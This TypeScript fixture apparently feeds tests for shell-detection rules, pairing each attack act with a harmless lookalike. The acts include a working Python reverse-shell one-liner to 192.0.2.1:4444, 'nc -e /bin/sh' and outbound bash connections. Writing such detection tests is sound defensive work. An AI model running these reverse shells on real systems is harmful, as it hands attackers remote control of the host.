import type { Act } from './act.ts';
import { NET_ADMIN, ownAddress } from './act.ts';

/** content/rules/shells.yaml */
export const SHELL_ACTS: readonly Act[] = [
  {
    rule: 'Shell or script on a network connection',
    act: {
      says: 'a script ties a shell to a connection',
      script: '/usr/bin/python3 remote-shell 4444 /bin/sh',
      programs: ['/usr/bin/python3'],
    },
    process: 'python3',
    lookalike: {
      says: 'a script reads its input from a file',
      script: '/usr/bin/python3 file-to-stdin /etc/hosts; /usr/bin/python3 connect 127.0.0.1 4444',
      programs: ['/usr/bin/python3'],
    },
  },
  {
    rule: 'Netcat or socat with a program attached',
    act: {
      says: 'nc starts a shell for whoever answers',
      script: '/bin/nc -w 1 127.0.0.1 4444 -e /bin/sh; true',
    },
    process: 'nc',
    lookalike: {
      says: 'nc sends a file',
      script: 'echo ruok | /bin/nc -w 1 127.0.0.1 2181; true',
    },
  },
  {
    rule: 'Remote shell in a one-line script',
    act: {
      says: 'a one-liner in Python as it is found on the internet',
      script:
        "/usr/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();" +
        's.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
      programs: ['/usr/bin/python3'],
    },
    process: 'python3',
    lookalike: {
      says: 'a one-liner in Python that asks whether a port is open',
      script:
        '/usr/bin/python3 -c \'import socket;socket.create_connection(("db",5432)).close()\'; ' +
        "/bin/sh -c 'true > /dev/null; echo ok'",
      programs: ['/usr/bin/python3'],
    },
  },
  {
    rule: 'Shell opened a network connection itself',
    act: {
      says: 'bash connects to an internet address',
      script: `${ownAddress('203.0.113.9')}; /bin/bash connect 203.0.113.9 443`,
      programs: ['/bin/bash'],
      container: NET_ADMIN,
    },
    process: 'bash',
    lookalike: {
      says: 'bash waits for a port of a neighbour',
      script: `${ownAddress('10.9.8.7')}; /bin/bash connect 10.9.8.7 5432`,
      programs: ['/bin/bash'],
      container: NET_ADMIN,
    },
  },
  {
    rule: 'Interactive shell in a container',
    act: {
      says: 'a shell is opened at a terminal',
      script: '/usr/bin/tool terminal /bin/sh -c true',
      programs: ['/usr/bin/tool'],
    },
    process: 'sh',
    lookalike: {
      says: 'a health check runs a shell without a terminal',
      script: '/usr/bin/tool run /bin/sh -c true',
      programs: ['/usr/bin/tool'],
    },
  },
  {
    rule: 'Interactive shell without a terminal',
    act: {
      says: 'sh -i reads from a pipe',
      script: 'echo exit | /bin/sh -i',
    },
    process: 'sh',
    lookalike: {
      says: 'an editor asks an interactive shell for its environment',
      script: "/bin/sh -i -c 'env'",
    },
  },
  {
    rule: 'Network service started a shell',
    act: {
      says: 'nginx starts a shell',
      script: '/usr/sbin/nginx run /bin/sh -c id',
      programs: ['/usr/sbin/nginx'],
    },
    process: 'sh',
    lookalike: {
      says: 'a shell starts nginx, and nginx its worker',
      script: '/usr/sbin/nginx run /usr/sbin/nginx worker',
      programs: ['/usr/sbin/nginx'],
    },
  },
  {
    rule: 'Application server or database started a shell',
    act: {
      says: 'java starts a shell',
      script: '/usr/bin/java run /bin/sh -c id',
      programs: ['/usr/bin/java'],
    },
    process: 'sh',
    lookalike: {
      says: 'postgres archives its log with the configured command',
      script: "/usr/bin/postgres run /bin/sh -c 'cp pg_wal/1 /archive/1'; true",
      programs: ['/usr/bin/postgres'],
    },
  },
];
